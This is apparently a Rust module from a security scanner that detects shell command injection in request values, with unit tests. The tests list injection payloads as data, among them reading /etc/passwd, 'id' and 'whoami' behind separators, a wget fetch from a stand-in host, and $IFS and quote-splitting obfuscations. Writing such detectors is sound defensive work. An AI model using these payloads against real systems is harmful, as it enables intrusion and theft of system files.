//! Commands for a shell of Unix or Windows.
//!
//! A command is looked for where a shell would begin one: at the start of the value and behind `;`, `|`, `&`, a line end, a backtick
//! and `$(`. Most names of commands are English words, so that a name is not enough: what stands around it has to be a command line,
//! and not a sentence, a list of fields or a table.

mod command;
mod names;

use std::ops::Range;

use super::text::words;
use crate::scan::Place;
use command::Command;
use names::Name;

/// The bytes of the command.
pub fn confirm(value: &[u8], _place: Place) -> Option<Range<usize>> {
    if starts_as_command(value) {
        return Some(0..value.len());
    }
    let mut before = Before::default();
    let mut at = 0;
    while let Some(start) =
        value.get(at..)?.iter().position(|byte| matches!(byte, b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'('))
    {
        let segment = value.get(at..at + start)?;
        let sign = at + start;
        before.add(segment);
        at = sign + 1;
        let rest = value.get(at..)?;
        let Some(separator) = Separator::at(value, sign) else { continue };
        let Some(command) = Command::at(rest) else { continue };
        if before.admits(&command, separator, rest) {
            return Some(sign..at + command.length());
        }
    }
    None
}

/// What lets a command begin.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Separator {
    /// `;`, `&`, `&&`.
    List,
    /// `|`, `||`.
    Pipe,
    /// The end of a line.
    Line,
    /// A backtick.
    Backtick,
    /// `$(`, `<(`, `>(`.
    Substitution,
}

impl Separator {
    fn at(value: &[u8], sign: usize) -> Option<Self> {
        let before = sign.checked_sub(1).and_then(|at| value.get(at));
        match value.get(sign)? {
            b';' | b'&' => Some(Self::List),
            b'|' => Some(Self::Pipe),
            b'\n' | b'\r' => Some(Self::Line),
            b'`' => Some(Self::Backtick),
            b'(' if matches!(before, Some(b'$' | b'<' | b'>')) => Some(Self::Substitution),
            _ => None,
        }
    }
}

/// What stands before a separator.
#[derive(Debug, Default)]
struct Before {
    /// How many words of prose.
    words: usize,
    /// It ends with a letter, as the name of a field does.
    ends_with_letter: bool,
    /// It holds an equals sign, as a query string does.
    assigns: bool,
}

/// More words than this before a separator are a sentence.
const SENTENCE: usize = 4;

impl Before {
    fn add(&mut self, segment: &[u8]) {
        if self.words < SENTENCE {
            self.words += words(segment, SENTENCE);
        }
        self.assigns |= segment.contains(&b'=');
        if let Some(last) = segment.trim_ascii_end().last() {
            self.ends_with_letter = last.is_ascii_alphabetic();
        }
    }

    /// Whether a command may be meant as one behind all this.
    fn admits(&self, command: &Command<'_>, separator: Separator, rest: &[u8]) -> bool {
        if self.words >= SENTENCE || separator == Separator::Line && self.words > 1 {
            return false;
        }
        if separator == Separator::Backtick {
            let end = rest.iter().position(|byte| *byte == b'`').unwrap_or(rest.len());
            let behind = rest.get(end..).unwrap_or_default();
            if self.words + words(behind, 3) > 1 {
                return false;
            }
        }
        let trial = self.words == 0 && separator != Separator::Line && command.is_trial();
        if trial || command.is_disguised() || command.is_technical() {
            return true;
        }
        let alone = command.is_alone() && !(separator == Separator::List && self.assigns);
        match command.name() {
            Name::Telling => alone,
            Name::Short => {
                alone
                    && (!self.ends_with_letter || matches!(separator, Separator::Backtick | Separator::Substitution))
                    && separator != Separator::Line
            }
            Name::Interpreter => alone && separator == Separator::Pipe && self.assigns,
            _ => false,
        }
    }
}

/// Whether the whole value is a command line.
fn starts_as_command(value: &[u8]) -> bool {
    let text = value.trim_ascii_start();
    let text = text.strip_prefix(b"$ ").unwrap_or(text);
    let Some(command) = Command::at(text) else { return false };
    let prose = words(text, 6) > 4;
    !prose && (command.is_disguised() && command.leads_somewhere() || command.is_command_line())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn is_attack(value: &str) -> bool {
        confirm(value.as_bytes(), Place::QueryValue).is_some()
    }

    #[test]
    fn command_lines_behind_separators_are_attacks() {
        for attack in [
            "; cat /etc/passwd",
            "127.0.0.1; ls -la",
            "127.0.0.1|id",
            "x && whoami",
            "`id`",
            "$(sleep 5)",
            "|nslookup x.example",
            "a;c'a't /etc/passwd",
            "a;cat$IFS/etc/passwd",
            "1 & ping -c 10 127.0.0.1 &",
            "';uname -a;#",
            "foo\nwget http://x.example/a.sh",
            "| type C:\\boot.ini",
            "cat /etc/passwd",
            "bash -c 'id'",
            "{cat,/etc/passwd}",
            ";/bin/id",
            "& ipconfig /all",
            "||ping -n 5 127.0.0.1||",
        ] {
            assert!(is_attack(attack), "{attack}");
        }
    }

    #[test]
    fn lists_tables_and_sentences_with_names_of_commands_are_clean() {
        for clean in [
            "name|id|date",
            "| id | name | type |",
            "Tom & Jerry; cat and dog",
            "a && b",
            "Research & more",
            "Python; Ruby; Perl",
            "run `ls -la` in the terminal to see your files",
            "salt; pepper; sort of",
            "find (the) time",
            "R&D; id required",
            "x=1&id=2&date=3",
            "AT&T",
            "first line\nfind a job\nmore to come",
            "cat and mouse",
            "date; time; host",
            "echo (sound) & head of it",
        ] {
            assert!(!is_attack(clean), "{clean}");
        }
    }
}
